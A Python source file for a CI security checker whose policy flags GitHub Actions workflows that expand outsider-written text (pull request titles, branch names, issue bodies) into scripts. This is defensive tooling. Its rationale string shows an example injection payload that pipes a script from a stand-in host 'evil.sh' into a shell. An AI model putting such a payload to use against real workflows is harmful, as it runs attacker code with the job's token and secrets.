"""ORG-GHA-003: untrusted `${{ }}` expressions expanded into code."""
from __future__ import annotations

import dataclasses
import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import TypeVar, cast

from checker.documents import Document, YamlMap, YamlSeq
from checker.policy import Context, Violation, policy

from .._helpers import expression_matches, get_path, script_lines
from .workflow import (
    UNTRUSTED,
    Flow,
    action_name,
    alias_line,
    item_alias_lines,
    jobs,
    outsider_field,
    value_flows,
)

# Inputs of actions that run their value as code, and the language it runs as: the actions GitHub's CodeQL
# models and zizmor name as code-injection sinks. An expression in one of these inputs is expanded into the
# code before it runs, as in `run:`. The rule's docstring lists them too (it is the rule's documentation).
CODE_INPUTS: dict[str, tuple[frozenset[str], str]] = {
    "actions/github-script": (frozenset({"script"}), "JavaScript"),
    "amadevus/pwsh-script": (frozenset({"script"}), "PowerShell"),
    "azure/powershell": (frozenset({"inlinescript"}), "PowerShell"),
    "azure/cli": (frozenset({"inlinescript"}), "a shell script"),
    "appleboy/ssh-action": (frozenset({"script"}), "a shell script on the remote host"),
    "addnab/docker-run-action": (frozenset({"run", "options"}), "a shell command line in a container"),
    "mikefarah/yq": (frozenset({"cmd"}), "a shell command line"),
    "devorbitus/yq-action-output": (frozenset({"cmd"}), "a shell command line"),
    "sergeysova/jq-action": (frozenset({"cmd"}), "a shell command line"),
    "jannekem/run-python-script-action": (frozenset({"script"}), "Python"),
    "cardinalby/js-eval-action": (frozenset({"expression"}), "JavaScript"),
    "tibdex/backport": (frozenset({"title_template", "body_template", "head_template", "labels_template"}),
                        "a lodash template, which runs JavaScript"),
    "8398a7/action-slack": (frozenset({"custom_payload"}), "JavaScript"),
    "skitionek/notify-microsoft-teams": (frozenset({"overwrite"}), "JavaScript"),
    "gautamkrishnar/blog-post-workflow": (frozenset({"item_exec"}), "JavaScript"),
    "roots/issue-closer-action": (frozenset({"issue-close-message", "pr-close-message"}),
                                  "a JavaScript template literal"),
    "lucasbento/auto-close-issues": (frozenset({"issue-close-message"}), "a JavaScript template literal"),
    "imjohnbo/issue-bot": (frozenset({"body", "linked-comments-previous-issue-text", "linked-comments-new-issue-text"}),
                           "a template (CodeQL models it as evaluated code)"),
}
# Actions whose outputs repeat text an outsider wrote: the output names, and whose text it is (listed in
# the docstring too).
ECHOING_OUTPUTS: dict[str, tuple[re.Pattern[str], str]] = {
    "tj-actions/branch-names": (re.compile(r"^(?:current_branch|head_ref_branch)$"),
                                "the pull request's source branch name, which its author chooses"),
    "xt0rted/pull-request-comment-branch": (re.compile(r"^(?:head_ref|ref)$"),
                                            "the pull request's source branch name, which its author chooses"),
    "8bitjonny/gh-get-current-pr": (re.compile(r"^(?:pr_title|pr_body)$"),
                                    "a pull request's title or description, which its author writes"),
    "stefanbuck/github-issue-parser": (re.compile(r".*"), "the answers of an issue form, which whoever opens it types"),
}
# Programs that run their arguments as code, as a `docker://` step's entrypoint or the first word of its args.
_INTERPRETER = re.compile(r"^(?:\S*/)?(?:sh|bash|dash|ash|zsh|ksh|pwsh|powershell|python[\d.]*|node|perl|ruby)$")
_SHELL_ARGS = re.compile(r"^\s*(?:\S*/)?(?:sh|bash|dash|ash|zsh|ksh|pwsh|powershell)\s+(?:-\w*c\w*|-Command)\b")
# The language a fix reads a variable in (`_READ`), by shell and by action; any other reads it its own way.
_SHELL_LANGUAGE = {"pwsh": "pwsh", "powershell": "pwsh", "cmd": "cmd", "python": "python", "python3": "python"}
_ACTION_LANGUAGE = {"actions/github-script": "javascript", "amadevus/pwsh-script": "pwsh",
                    "jannekem/run-python-script-action": "python"}
_OUTPUT_WRITE = re.compile(r"GITHUB_OUTPUT|::set-output\b")
_VARIABLE = re.compile(r"\$\{?(?:env:)?([A-Za-z_]\w*)|%([A-Za-z_]\w*)%")
_MAX_DEPTH = 8  # env -> step output -> job output -> ... : deeper chains are not followed


@dataclasses.dataclass(frozen=True)
class Taint:
    """Where an outsider's text comes from: the field (`` `github.event.issue.title` ``, an action's output,
    quoted for the message), who writes it, and the contexts it passes through on the way (`env.TITLE`)."""

    source: str
    why: str
    via: tuple[str, ...] = ()


_Value = TypeVar("_Value")


@dataclasses.dataclass
class _Memo:
    """What tracing has found in one workflow, keyed by what decides it, so that each env variable, matrix
    value, step output and job output is traced once however many expressions read it (where outputs read
    each other, ten reads each eight deep would cost 10^8 traces), and each sink text is read once per scope
    (an aliased script used a thousand times); each expression parsed once (`parsed`, its distinct flows);
    and the lookups by name tracing makes (a job's steps by `id`, the workflow's jobs and inputs, an `env:`
    mapping's variables, a matrix's values), built once each."""

    taints: dict[tuple[object, ...], Taint | None] = dataclasses.field(default_factory=dict)
    findings: dict[tuple[object, ...], tuple[tuple[int, str, Flow | None, Taint], ...]] = dataclasses.field(
        default_factory=dict)
    env_reads: dict[str, tuple[frozenset[str], bool]] = dataclasses.field(default_factory=dict)
    parsed: dict[str, list[Flow] | None] = dataclasses.field(default_factory=dict)
    indexes: dict[tuple[str, int], dict[str, object]] = dataclasses.field(default_factory=dict)

    def flows(self, expression: str) -> list[Flow] | None:
        """`value_flows(expression)` without repeats (a context named twice is traced once: the same path
        gives the same answer), worked out once per expression."""
        if expression not in self.parsed:
            flows = value_flows(expression)
            distinct: dict[tuple[tuple[str, ...], bool], Flow] = {}
            for flow in flows or []:
                distinct.setdefault((flow.path, flow.whole), flow)
            self.parsed[expression] = None if flows is None else list(distinct.values())
        return self.parsed[expression]

    def index(self, kind: str, owner: object, entries: Iterable[tuple[str, _Value]]) -> dict[str, _Value]:
        """The `entries` of `owner` (a node of the workflow, which lives as long as the memo; a generator,
        read the first time only) as a mapping from name to value, the first of each name kept, as a scan
        in order would find it. `kind` tells apart indexes of one node (an alias can make a job an `env:`) and
        decides the type of their values."""
        key = (kind, id(owner))
        if key not in self.indexes:
            found: dict[str, _Value] = {}
            for name, value in entries:
                found.setdefault(name, value)
            self.indexes[key] = cast(dict[str, object], found)
        return cast(dict[str, _Value], self.indexes[key])


@dataclasses.dataclass(frozen=True)
class Scope:
    """What an expression can read where it is written: the workflow, its job and the job's steps (for
    `steps.<id>.outputs`), and the `env:` mappings in sight, innermost first. `memo` is shared by every
    scope of one workflow."""

    workflow: YamlMap
    job: YamlMap | None = None
    steps: tuple[YamlMap, ...] = ()
    envs: tuple[YamlMap, ...] = ()
    memo: _Memo = dataclasses.field(default_factory=_Memo, compare=False, repr=False)

    def key(self) -> tuple[object, ...]:
        """What tells this scope from another of the same workflow: the job (its steps follow from it) and
        the `env:` mappings in sight, by identity (they live as long as the workflow)."""
        return (id(self.job), *map(id, self.envs))

    def remember(self, key: tuple[object, ...], work: Callable[[], Taint | None]) -> Taint | None:
        """`work()`, done once per key."""
        if key not in self.memo.taints:
            self.memo.taints[key] = work()
        return self.memo.taints[key]


@dataclasses.dataclass(frozen=True)
class Sink:
    """A value run as code: its key in the step, its text, the line of its key, the line of the alias that
    uses it (None when written in place), what runs it (for the message) and the fix's language."""

    key: str
    value: str
    line: int
    used_at: int | None
    what: str
    language: str


@policy(
    id="ORG-GHA-003",
    title="Untrusted text is not expanded into code a workflow runs",
    kinds=["github-actions"],
    severity="high",
    rationale=(
        "`${{ }}` is substituted into the code before the shell or interpreter reads it, so a pull request "
        "title such as `a\"; curl evil.sh | sh; #` becomes code that runs with the job's token and secrets "
        "(script injection); an environment variable is passed as data and never parsed as code."
    ),
    remediation="""
        Pass the value through an environment variable and read it as a variable, quoted:

            - name: Greet
              env:
                TITLE: ${{ github.event.pull_request.title }}
              run: echo "Title: $TITLE"

        In PowerShell read `$env:TITLE`, in `actions/github-script` `process.env.TITLE`. A value already in
        `env:` is read as `"$TITLE"`, not `${{ env.TITLE }}`. An action input that runs code (the actions
        listed above) should not receive outside text at all.
    """,
    tags=["ci-security", "injection"],
    covers=["CKV_GHA_2"],  # every context CKV_GHA_2 looks for in run:, and more contexts, sinks and paths to them
)
def no_script_injection(doc: Document, ctx: Context) -> Iterator[Violation]:
    """No code a workflow runs expands an expression whose text an outsider can write.

    **Sinks**: `run:` scripts in any shell (bash, `pwsh`, `cmd`, `python`, a custom `shell:`), in `parallel:`
    groups too; the inputs that actions run as code, from GitHub's CodeQL models and zizmor's list:
    `actions/github-script` `script`, `Amadevus/pwsh-script` `script`, `azure/powershell` and `azure/cli`
    `inlineScript`, `appleboy/ssh-action` `script`, `addnab/docker-run-action` `run` and `options`,
    `mikefarah/yq`, `devorbitus/yq-action-output` and `sergeysova/jq-action` `cmd`,
    `jannekem/run-python-script-action` `script`, `cardinalby/js-eval-action` `expression`,
    `tibdex/backport`'s four `*_template`s, `8398a7/action-slack` `custom_payload`,
    `skitionek/notify-microsoft-teams` `overwrite`, `gautamkrishnar/blog-post-workflow` `item_exec`,
    `roots/issue-closer-action` and `lucasbento/auto-close-issues` close messages and `imjohnbo/issue-bot`
    `body` and linked-comment texts; and a `docker://` step's `entrypoint`, and its `args` when the
    entrypoint is a shell or interpreter or the args start a shell with `-c`.

    **Sources**: issue, pull request, discussion, comment and review titles and bodies; label names
    (`github.event.*.labels.*.name`, `github.event.label.name`); source branch names (`github.head_ref`,
    `...head.ref`, `...head.label`, the fork's default branch, `...head_branch` of `workflow_run` and check
    suites, `workflow_run.pull_requests.*.head.ref`); commit messages and author and committer names and
    emails; wiki page names; `workflow_run.display_title`; the previous text in `github.event.changes`;
    a `repository_dispatch` event's `client_payload`. And what the workflow's own plumbing carries from
    them: `inputs.X` and `github.event.inputs.X` declared free text (`type: string`, or no type under
    `workflow_dispatch`), because a reusable workflow cannot know that its caller passes no pull request
    title and a dispatched job may hold secrets its dispatcher cannot read; `env.X` when the innermost
    `env:` (step, job, workflow) that sets X sets it from a source; `matrix.x` when the axis, an
    `include:` entry or the whole matrix is built from one; `steps.<id>.outputs.Y` when that step writes Y
    to `$GITHUB_OUTPUT` from a source, directly or through its `env:`, or is an action that repeats
    outside text (`tj-actions/branch-names` `current_branch` and `head_ref_branch`,
    `xt0rted/pull-request-comment-branch` `head_ref` and `ref`, `8BitJonny/gh-get-current-pr` `pr_title`
    and `pr_body`, every output of `stefanbuck/github-issue-parser`); `needs.<job>.outputs.Y` set from any
    of these.

    **Expressions** are parsed, not matched as text: the index syntax (`github.event['issue']['title']`),
    `*` filters, `format()`, `join()`, `fromJSON()`, `toJSON()` of an object holding a source, `||`, `&&`
    and expressions written over several lines are followed; comparisons, `!`, `contains()`,
    `startsWith()`, `endsWith()` and the status functions yield only true or false and pass; a field of a
    computed value (`(github.event.pull_request || github.event.issue).number`) is judged as that field.

    **Not flagged**: what GitHub or people with write access set: `github.ref`, `github.ref_name` and
    `github.base_ref` (a pull request's run has `refs/pull/N/merge` and its base branch; whoever pushes a
    branch or tag with a crafted name also writes the workflow that runs on it), `github.actor`, numbers,
    SHAs, logins, release names and tags, `secrets`, `vars`; boolean, number and choice inputs; what the
    check cannot trace (`env.X` set through `$GITHUB_ENV`, a matrix from an output it cannot follow,
    other actions' outputs); `docker://` args run by the image's own entrypoint; and sources where they
    are data, not code: `env:`, `if:`, `name:` and other actions' `with:`. The triggers are not weighed:
    a workflow that reads an issue title on `push` today reads it on `issues` tomorrow.

    Each finding points at the line that holds the source inside the code (the context's own line when
    an expression spans several) or at the line that reuses it through a YAML alias (`run: *script`,
    `steps: *steps`, `- *step`, `<<: *step`), and names the expression, the source, the sink and the fix.
    """
    workflow = doc.data
    if not isinstance(workflow, YamlMap):
        return
    source = doc.text.splitlines()
    seen: set[tuple[int, str, str]] = set()
    memo = _Memo()
    for job_id, job, _ in jobs(workflow):
        flat = _flat_steps(job)
        for where, step, used_at in _job_steps(source, job, alias_line(source, workflow.get("jobs"), job_id)):
            scope = Scope(workflow, job, flat, _envs(step, job, workflow), memo)
            for sink in _sinks(source, workflow, job, step, used_at):
                for line, expression, flow, taint in _findings(sink, source, step.end_line, scope):
                    key = (line, sink.key, expression)
                    if key not in seen:
                        seen.add(key)
                        yield Violation(_message(expression, flow, taint, sink), line,
                                        f"jobs.{job_id}.{where}.{sink.key}")


def _envs(*nodes: YamlMap) -> tuple[YamlMap, ...]:
    """The `env:` mappings of these nodes (a step, its job, the workflow), innermost first."""
    return tuple(node["env"] for node in nodes if isinstance(node.get("env"), YamlMap))


def _job_steps(source: Sequence[str], job: YamlMap, used_at: int | None
               ) -> Iterator[tuple[str, YamlMap, int | None]]:
    """(resource, step, alias line) of each step of a job, the steps of a `parallel:` group included; the
    alias line is where the step, its list or its job is used through an alias (None when written in place)."""
    steps = job.get("steps")
    if not isinstance(steps, YamlSeq):
        return
    used_at = used_at or alias_line(source, job, "steps")
    aliases = item_alias_lines(source, steps)
    for i, step in enumerate(steps):
        if not isinstance(step, YamlMap):
            continue
        at = used_at or (aliases[i] if i < len(aliases) else None)
        group = step.get("parallel")
        if not isinstance(group, YamlSeq):
            yield f"steps[{i}]", step, at
            continue
        at = at or alias_line(source, step, "parallel")
        inner_aliases = item_alias_lines(source, group)
        for j, inner in enumerate(group):
            if isinstance(inner, YamlMap):
                yield f"steps[{i}].parallel[{j}]", inner, at or (inner_aliases[j] if j < len(inner_aliases) else None)


def _flat_steps(job: YamlMap) -> tuple[YamlMap, ...]:
    """The steps `steps.<id>` can name in a job, in order: each `parallel:` group's steps in its place."""
    steps = job.get("steps")
    found: list[YamlMap] = []
    for step in steps if isinstance(steps, YamlSeq) else ():
        group = step.get("parallel") if isinstance(step, YamlMap) else None
        if isinstance(group, YamlSeq):
            found += (inner for inner in group if isinstance(inner, YamlMap))
        elif isinstance(step, YamlMap):
            found.append(step)
    return tuple(found)


def _sinks(source: Sequence[str], workflow: YamlMap, job: YamlMap, step: YamlMap, used_at: int | None
           ) -> Iterator[Sink]:
    """Every value of a step that is run as code."""
    run = step.get("run")
    if isinstance(run, str):
        shell = _shell(workflow, job, step)
        language = _SHELL_LANGUAGE.get(shell, "posix" if shell.endswith("sh") else "")
        yield Sink("run", run, step.line_of("run"), used_at or alias_line(source, step, "run"),
                   f"the `run:` script before {shell} reads it", language)
    uses = step.get("uses")
    with_ = step.get("with")
    if not isinstance(uses, str) or not isinstance(with_, YamlMap):
        return
    used_at = used_at or alias_line(source, step, "with")
    name = action_name(uses).lower()
    if name in CODE_INPUTS:
        inputs, language = CODE_INPUTS[name]
        for key, value in with_.items():
            if str(key).lower() in inputs and isinstance(value, str):
                yield Sink(f"with.{key}", value, with_.line_of(key), used_at or alias_line(source, with_, key),
                           f"`with.{key}` of {action_name(uses)}, which runs it as {language}",
                           _ACTION_LANGUAGE.get(name, ""))
    elif uses.startswith("docker://"):
        entrypoint, args = with_.get("entrypoint"), with_.get("args")
        runs_args = isinstance(entrypoint, str) and _INTERPRETER.match(entrypoint.strip())
        for key, value in (("entrypoint", entrypoint), ("args", args)):
            if isinstance(value, str) and (key == "entrypoint" or runs_args or _SHELL_ARGS.match(value)):
                what = "the program it runs" if key == "entrypoint" else "which its shell runs"
                yield Sink(f"with.{key}", value, with_.line_of(key), used_at or alias_line(source, with_, key),
                           f"`with.{key}` of the container {uses}, {what}", "")


def _shell(workflow: YamlMap, job: YamlMap, step: YamlMap) -> str:
    """The program that runs a `run:` script: the step's `shell:`, else the job's or the workflow's
    `defaults.run.shell`, else the runner's default (bash, or PowerShell on Windows)."""
    for shell in (step.get("shell"), get_path(job, "defaults", "run", "shell"),
                  get_path(workflow, "defaults", "run", "shell")):
        if isinstance(shell, str) and shell.strip():
            return "the matrix's shell" if "${{" in shell else shell.split()[0].rsplit("/", 1)[-1].lower()
    return "pwsh" if "windows" in str(job.get("runs-on", "")).lower() else "bash"


def _findings(sink: Sink, source: Sequence[str], end: int, scope: Scope
              ) -> Iterator[tuple[int, str, Flow | None, Taint]]:
    """(line, expression, context, taint) of each expression in the sink whose text an outsider can write.

    The line is the alias's when the sink is used through one, else the source line that holds the
    context (an expression can span several lines): the value's lines are looked up only then."""
    scope = _narrowed(sink.value, scope)
    key = (sink.value, *scope.key())
    if key not in scope.memo.findings:
        scope.memo.findings[key] = tuple(_tainted(sink.value, scope))
    lines: list[int] = []
    newlines = counted = 0
    for offset, expression, flow, taint in scope.memo.findings[key]:
        if sink.used_at:
            yield sink.used_at, expression, flow, taint
            continue
        lines = lines or script_lines(sink.value, source, sink.line, end)
        newlines, counted = newlines + sink.value.count("\n", counted, offset), offset  # offsets only grow
        yield lines[newlines], expression, flow, taint


def _narrowed(value: str, scope: Scope) -> Scope:
    """The scope without its innermost `env:` mappings that set none of the variables the value reads (all
    of them count for `toJSON(env)`): the value's findings are the same, and a script used through aliases
    in steps that each have their own `env:` is then read once, not once per step."""
    if value not in scope.memo.env_reads:
        names: set[str] = set()
        whole = False
        for match in expression_matches(value):
            for flow in scope.memo.flows(match.group(1)) or []:
                if flow.path[0] == "env" and len(flow.path) > 1:
                    names.add(flow.path[1])
                whole = whole or (flow.path == ("env",) and flow.whole)
        scope.memo.env_reads[value] = frozenset(names), whole
    names_read, whole = scope.memo.env_reads[value]
    if whole:
        return scope
    envs = scope.envs
    while envs and _variables(envs[0], scope.memo).keys().isdisjoint(names_read):  # reads the smaller of the two
        envs = envs[1:]
    return scope if envs is scope.envs else dataclasses.replace(scope, envs=envs)


def _tainted(value: str, scope: Scope) -> Iterator[tuple[int, str, Flow | None, Taint]]:
    """(offset in the value, expression, context, taint) of each expression of a sink's text whose text an
    outsider can write, in order."""
    for match in expression_matches(value):
        flows = scope.memo.flows(match.group(1))
        if flows is None:  # not a valid expression: judged by the contexts it names, as written
            found = UNTRUSTED.search(match.group(1))
            if found:
                yield (match.start(1) + found.start(), match.group(0), None,
                       Taint(f"`{found.group(0)}`", "text an outsider writes"))
            continue
        for flow in flows:
            taint = trace(flow, scope)
            if taint:
                yield match.start(1) + flow.offset, match.group(0), flow, taint
                break


def trace(flow: Flow, scope: Scope, depth: int = 0) -> Taint | None:
    """Where the text of a context comes from when an outsider writes it, None when no outsider does."""
    head, rest = flow.path[0], flow.path[1:]
    if head == "github" and rest[:2] == ("event", "inputs"):
        return _input(scope, rest[2:], flow.whole)
    if head == "github":
        why = outsider_field(flow.path, flow.whole)
        if why and not outsider_field(flow.path):  # an object serialised whole, not the field itself
            why = f"serialised whole, it holds {why}"
        return Taint(f"`{flow.text}`", why) if why else None
    if head == "inputs":
        return _input(scope, rest, flow.whole)
    if depth >= _MAX_DEPTH or (not rest and not flow.whole):
        return None
    found: Taint | None = None
    if head == "env":
        found = _env(rest[0] if rest else "", scope, depth)
    elif head == "matrix" and scope.job is not None:
        found = _matrix(rest[0] if rest else "", scope, depth)
    elif head == "steps" and rest[1:2] == ("outputs",) and len(rest) >= 3:
        found = _step_output(rest[0], rest[2], scope, depth)
    elif head == "needs" and rest[1:2] == ("outputs",) and len(rest) >= 3:
        found = _job_output(rest[0], rest[2], scope, depth)
    if found is None:
        return None
    return dataclasses.replace(found, via=(flow.text, *found.via))


def _in_text(value: object, scope: Scope, depth: int) -> Taint | None:
    """The first outsider's text any expression of a string value carries."""
    if not isinstance(value, str):
        return None
    for match in expression_matches(value):
        for flow in scope.memo.flows(match.group(1)) or []:
            found = trace(flow, scope, depth + 1)
            if found:
                return found
    return None


def _input(scope: Scope, rest: tuple[str, ...], whole: bool) -> Taint | None:
    """A workflow input declared free text: `type: string` under `workflow_call` or `workflow_dispatch`
    (where it is the default). Undeclared inputs, booleans, numbers and choices are not traced; the whole
    `inputs` object serialised carries the first free-text one."""
    if whole and not rest:
        return scope.memo.index("any input", scope.workflow,
                                (("", taint) for _, taint in _free_inputs(scope.workflow))).get("")
    return scope.memo.index("inputs", scope.workflow, _free_inputs(scope.workflow)).get(rest[0]) if rest else None


def _free_inputs(workflow: YamlMap) -> Iterator[tuple[str, Taint]]:
    """(name in lower case, taint) of each free-text input, `workflow_call`'s first."""
    on = workflow.get("on" if "on" in workflow else True)
    for event in ("workflow_call", "workflow_dispatch"):
        inputs = get_path(on, event, "inputs")
        if not isinstance(inputs, YamlMap):
            continue
        for name, spec in inputs.items():
            kind = spec.get("type") if isinstance(spec, YamlMap) else None
            if (kind is None and event == "workflow_dispatch") or str(kind).lower() == "string":
                yield str(name).lower(), Taint(
                    f"`inputs.{name}`", f"a free-text input of {event}, which the "
                    + ("calling workflow passes, maybe from a pull request" if event == "workflow_call"
                       else "person or automation that dispatches the run types"))


def _env(name: str, scope: Scope, depth: int) -> Taint | None:
    """The variable as the innermost `env:` that sets it does (`toJSON(env)`: any variable in sight). Only
    that `env:` and those outside it decide, so steps whose own `env:` does not set it share the answer."""
    if name:
        setting = next((index for index, env in enumerate(scope.envs) if name in _variables(env, scope.memo)),
                       len(scope.envs))
        if setting:
            scope = dataclasses.replace(scope, envs=scope.envs[setting:])
    return scope.remember(("env", name, depth, *scope.key()), lambda: _env_value(name, scope, depth))


def _env_value(name: str, scope: Scope, depth: int) -> Taint | None:
    for index, env in enumerate(scope.envs):
        outer = dataclasses.replace(scope, envs=scope.envs[index + 1:])
        if not name:
            found = next(filter(None, (_in_text(value, outer, depth) for value in env.values())), None)
            if found:
                return found
            continue
        variables = _variables(env, scope.memo)
        if name in variables:
            return _in_text(variables[name], outer, depth)
    return None


def _variables(env: YamlMap, memo: _Memo) -> dict[str, object]:
    """An `env:` mapping's values by variable name in lower case (GitHub ignores case in `env.X`)."""
    return memo.index("env", env, ((str(key).lower(), value) for key, value in env.items()))


def _matrix(name: str, scope: Scope, depth: int) -> Taint | None:
    """A matrix value built from an outsider's text: the matrix, the axis or its items, or an `include:`
    entry (the axis's own key, or any key when the whole matrix is serialised)."""
    return scope.remember(("matrix", name, depth, id(scope.job)), lambda: _matrix_value(name, scope, depth))


def _matrix_value(name: str, scope: Scope, depth: int) -> Taint | None:
    matrix = get_path(scope.job, "strategy", "matrix")
    outer = Scope(scope.workflow, memo=scope.memo)
    if isinstance(matrix, str):
        return _in_text(matrix, outer, depth)
    if not isinstance(matrix, YamlMap):
        return None
    built = scope.memo.index("matrix", matrix, _matrix_values(matrix))  # "" -> all, "\0" -> the expression's
    for value in built.get(name, built.get("\0", [])):
        found = next(filter(None, (_in_text(leaf, outer, depth) for leaf in _leaves(value))), None)
        if found:
            return found
    return None


def _matrix_values(matrix: YamlMap) -> Iterator[tuple[str, list[object]]]:
    """Each name's values in a matrix, in its order: its axis and the values `include:` entries give it; for
    '' (`toJSON(matrix)`) every axis and entry value (`exclude:` left out); an `include:` written as an
    expression (that builds the entries) is a value of every name, and of "\0", a name no axis has."""
    values: dict[str, list[object]] = {"": []}
    anywhere: list[object] = []  # `include:` as an expression: at most one
    for key, axis in matrix.items():
        axis_name = str(key).lower()
        if axis_name == "include" and isinstance(axis, list):
            pairs = [(str(k).lower(), value) for entry in axis if isinstance(entry, YamlMap)
                     for k, value in entry.items()]
        elif axis_name == "include":
            anywhere.append(axis)
            for found in values.values():
                found.append(axis)
            continue
        elif axis_name != "exclude":
            pairs = [(axis_name, axis)]
        else:
            continue
        for name, value in pairs:
            values.setdefault(name, list(anywhere)).append(value)
            if name:
                values[""].append(value)
    values["\0"] = anywhere
    yield from values.items()


def _leaves(value: object) -> Iterator[object]:
    """The scalars of a YAML value, nested lists and mappings walked (without recursion: the YAML may nest
    as deep as the loader allows)."""
    todo = [value]
    while todo:
        value = todo.pop()
        if isinstance(value, dict):
            todo += reversed(value.values())
        elif isinstance(value, list):
            todo += reversed(value)
        else:
            yield value


def _step_output(step_id: str, name: str, scope: Scope, depth: int) -> Taint | None:
    """An output of a step of the job: an action's known to repeat outside text, or what a `run:` step
    writes to `$GITHUB_OUTPUT` from an outsider's text, directly or through its `env:`."""
    return scope.remember(("steps", step_id, name, depth, id(scope.job)),
                          lambda: _step_output_value(step_id, name, scope, depth))


def _step_output_value(step_id: str, name: str, scope: Scope, depth: int) -> Taint | None:
    step = scope.memo.index("steps", scope.job, ((str(s.get("id", "")).lower(), s) for s in scope.steps)
                            ).get(step_id) if scope.job is not None else None
    if not isinstance(step, YamlMap):
        return None
    echoing = ECHOING_OUTPUTS.get(action_name(step.get("uses")).lower())
    if echoing and echoing[0].match(name):
        return Taint(f"the output `{name}` of {action_name(step['uses'])}", echoing[1])
    run = step.get("run")
    if not isinstance(run, str) or not _OUTPUT_WRITE.search(run):
        return None
    step_scope = dataclasses.replace(scope, envs=_envs(step, *(n for n in (scope.job, scope.workflow) if n)))
    for written in _output_writes(run, name):
        found = _in_text(written, step_scope, depth) or next(filter(None, (
            _env(variable.lower(), step_scope, depth) for match in _VARIABLE.finditer(written)
            for variable in match.groups() if variable)), None)
        if found:
            return found
    return None


def _output_writes(run: str, name: str) -> list[str]:
    """The text a script writes as output `name`: after `name=` (or `name::`, the old `::set-output`) on
    a line, or the lines of a `name<<DELIMITER` ... `DELIMITER` block. A block's lines are its value, not
    commands, so reading goes on after it (each line is read once)."""
    key = re.compile(rf"(?<![\w-]){re.escape(name)}(?:=|::|<<\s*['\"]?([\w-]+))", re.IGNORECASE)
    lines = run.split("\n")
    written: list[str] = []
    index = 0
    while index < len(lines):
        match = key.search(lines[index])
        index += 1
        if not match:
            continue
        if not match.group(1):
            written.append(lines[index - 1][match.end():])
            continue
        end = re.compile(rf"\s*(?:echo\s+)?['\"]?{re.escape(match.group(1))}['\"]?\s*(?:>>.*)?")
        close = next((n for n in range(index, len(lines)) if end.fullmatch(lines[n])), len(lines))
        written.append("\n".join(lines[index:close]))
        index = close + 1
    return written


def _job_output(job_id: str, name: str, scope: Scope, depth: int) -> Taint | None:
    """An output of a job this one needs, as that job's `outputs:` sets it from its own steps."""
    return scope.remember(("needs", job_id, name, depth), lambda: _job_output_value(job_id, name, scope, depth))


def _job_output_value(job_id: str, name: str, scope: Scope, depth: int) -> Taint | None:
    jobs_map = scope.workflow.get("jobs")
    if not isinstance(jobs_map, YamlMap):
        return None
    job = scope.memo.index("jobs", jobs_map, ((str(k).lower(), j) for k, j in jobs_map.items()
                                      if isinstance(j, YamlMap))).get(job_id)
    outputs = job.get("outputs") if isinstance(job, YamlMap) else None
    if not isinstance(job, YamlMap) or not isinstance(outputs, YamlMap):
        return None
    job_scope = Scope(scope.workflow, job, _flat_steps(job), _envs(job, scope.workflow), scope.memo)
    return next((_in_text(value, job_scope, depth) for key, value in outputs.items() if str(key).lower() == name),
                None)


def _message(expression: str, flow: Flow | None, taint: Taint, sink: Sink) -> str:
    """Which expression, where its text comes from, which sink runs it, and what to write instead."""
    shown = expression if len(expression) <= 80 else expression[:74] + " ... }}"
    origin = f"{taint.source} ({taint.why})"
    if taint.via:
        origin = f"`{taint.via[0]}`, set from {origin}" if len(taint.via) == 1 else \
            f"`{taint.via[0]}`, set through {', '.join(f'`{v}`' for v in taint.via[1:])} from {origin}"
    return f"{shown} expands {origin} into {sink.what}; {_fix(expression, flow, sink)}"


_READ = {"posix": '"${}"', "pwsh": "$env:{}", "cmd": "%{}%", "python": "os.environ['{}']",
         "javascript": "process.env.{}"}


def _fix(expression: str, flow: Flow | None, sink: Sink) -> str:
    """How to pass the value as data in the sink's language."""
    if sink.language not in _READ:
        if sink.key == "run":
            return "set it in the step's `env:` and read the variable instead"
        return ("keep outside text out of code the action runs: pass it as data (an environment variable "
                "or a file) that the code reads")
    inner = expression[3:-2].strip()
    if flow is not None and flow.path[0] == "env" and len(flow.path) == 2 and inner == flow.text:
        name = re.sub(r"^env(?:\.|\[')", "", flow.text, flags=re.IGNORECASE).rstrip("']")
        return f"read the variable itself, {_READ[sink.language].format(name)}, which the environment already holds"
    path = flow.path if flow else ("value",)
    words = [part for part in path if part not in ("*", "github", "event", "outputs")] or list(path[-1:])
    name = re.sub(r"\W", "_", "_".join(words[-2:])).upper()
    return f"set `{name}: {expression}` in the step's `env:` and read {_READ[sink.language].format(name)} instead"
